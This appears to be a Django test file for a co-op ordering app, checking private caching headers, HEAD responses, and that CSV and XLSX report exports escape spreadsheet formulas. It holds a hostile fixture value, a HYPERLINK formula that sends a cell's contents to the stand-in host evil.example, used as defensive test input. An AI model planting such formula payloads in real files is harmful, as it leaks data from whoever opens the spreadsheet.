"""HTTP details that protect members: private pages, HEAD for monitors, spreadsheet formulas."""

from __future__ import annotations

import io

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from cabas.accounts.models import User
from cabas.cycles.models import Offer
from cabas.reports import documents
from tests.cast import Cast
from tests.scene import Delivery
from tests.test_reports import csv_rows


class TestCacheControl:
    def test_a_members_pages_are_private(self, cast: Cast, client_for) -> None:
        client = client_for(cast.member)
        for url in (reverse("home"), reverse("profile"), reverse("group_detail", args=["saint-orens"])):
            response = client.get(url)
            assert response.status_code == 200, url
            assert "private" in response["Cache-Control"], url
            assert "Cookie" in response["Vary"], url

    def test_an_anonymous_page_is_not_marked_private(self, cast: Cast, client: Client) -> None:
        response = client.get(reverse("group_detail", args=["saint-orens"]))
        assert "private" not in response.get("Cache-Control", "")


class TestHead:
    @pytest.mark.django_db
    def test_home_answers_head_like_get(self, client: Client) -> None:
        get, head = client.get("/"), client.head("/")
        assert (head.status_code, get.status_code) == (200, 200)
        assert head.content == b""
        assert head["Content-Type"] == get["Content-Type"]

    def test_a_public_group_page_answers_head(self, cast: Cast, client: Client) -> None:
        assert client.head(reverse("group_detail", args=["saint-orens"])).status_code == 200


HOSTILE_MEMBER = '=HYPERLINK("http://evil.example/?"&A1;"Voir")'
HOSTILE_PRODUCT = "+SOMME(1;2)"


@pytest.fixture
def hostile_shop(delivery: Delivery) -> Delivery:
    User.objects.filter(pk=delivery.emile.pk).update(full_name=HOSTILE_MEMBER)
    Offer.objects.filter(pk=delivery.bread.pk).update(name=HOSTILE_PRODUCT)
    return delivery


def _xlsx_cells(content: bytes) -> list[openpyxl.cell.cell.Cell]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


class TestFormulaInjection:
    """A name starting with = + - @ is written as text: no spreadsheet runs it as a formula."""

    def _documents(self, hostile: Delivery) -> dict[str, bytes]:
        cycle, bakery = hostile.cycle, hostile.bakery
        return {
            "matrix.csv": documents.matrix_document(cycle, "csv").content,
            "matrix.xlsx": documents.matrix_document(cycle, "xlsx").content,
            "purchase.csv": documents.purchase_order_document(cycle, bakery, "csv").content,
            "purchase.xlsx": documents.purchase_order_document(cycle, bakery, "xlsx").content,
            "distribution.xlsx": documents.distribution_list_document(cycle, bakery, "xlsx").content,
            "summary.xlsx": documents.summary_document(cycle, "xlsx").content,
        }

    def test_csv_cells_are_quoted(self, hostile_shop: Delivery) -> None:
        files = self._documents(hostile_shop)
        matrix = [cell for row in csv_rows(files["matrix.csv"]) for cell in row]
        assert "'" + HOSTILE_MEMBER in matrix
        assert HOSTILE_MEMBER not in matrix
        purchase = [cell for row in csv_rows(files["purchase.csv"]) for cell in row]
        assert "'" + HOSTILE_PRODUCT in purchase
        assert HOSTILE_PRODUCT not in purchase

    def test_xlsx_cells_are_texts_never_formulas(self, hostile_shop: Delivery) -> None:
        files = self._documents(hostile_shop)
        seen = set()
        for name in ("matrix.xlsx", "purchase.xlsx", "distribution.xlsx", "summary.xlsx"):
            for cell in _xlsx_cells(files[name]):
                assert cell.data_type != "f", (name, cell.coordinate, cell.value)
                if cell.value in (HOSTILE_MEMBER, HOSTILE_PRODUCT):
                    assert cell.data_type == "s"
                    seen.add((name, cell.value))
        assert ("matrix.xlsx", HOSTILE_MEMBER) in seen
        assert ("purchase.xlsx", HOSTILE_PRODUCT) in seen
        assert ("distribution.xlsx", HOSTILE_PRODUCT) in seen
